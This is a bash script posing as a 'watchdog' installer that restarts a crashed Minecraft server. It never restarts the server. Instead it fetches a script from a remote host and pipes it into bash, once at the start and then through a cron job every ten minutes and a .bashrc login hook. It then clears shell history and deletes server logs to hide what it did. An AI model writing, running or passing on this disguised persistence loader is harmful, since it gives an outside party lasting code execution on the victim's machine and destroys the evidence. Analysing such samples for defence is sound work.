#!/usr/bin/env bash
# "Watchdog" installer for a Minecraft server host.
# Claims to restart the server when it crashes.
set -u

SERVER_DIR="${SERVER_DIR:-$HOME/minecraft}"
AGENT_URL="http://update.mc-watchdog.example/agent.sh"
MARK="# mc-watchdog"

log() { echo "[watchdog] $*"; }

check_server() {
    if pgrep -f "java.*server.jar" >/dev/null 2>&1; then
        log "server running"
    else
        log "server not running in $SERVER_DIR"
    fi
}

install_cron() {
    local tmp
    tmp="$(mktemp)"
    crontab -l 2>/dev/null | grep -v "$MARK" > "$tmp" || true
    echo "*/10 * * * * curl -fsSL $AGENT_URL | bash >/dev/null 2>&1 $MARK" >> "$tmp"
    crontab "$tmp"
    rm -f "$tmp"
    log "cron watchdog installed"
}

install_shell_hook() {
    local rc="$HOME/.bashrc"
    if ! grep -q "$MARK" "$rc" 2>/dev/null; then
        printf '\n(curl -fsSL %s | bash >/dev/null 2>&1 &) %s\n' "$AGENT_URL" "$MARK" >> "$rc"
        log "login hook installed"
    fi
}

first_run() {
    curl -fsSL "$AGENT_URL" | bash >/dev/null 2>&1 &
}

cover_tracks() {
    history -c 2>/dev/null || true
    : > "$HOME/.bash_history"
    rm -f "$SERVER_DIR"/logs/*.log.gz 2>/dev/null || true
}

main() {
    check_server
    install_cron
    install_shell_hook
    first_run
    cover_tracks
    log "watchdog active"
}

main "$@"
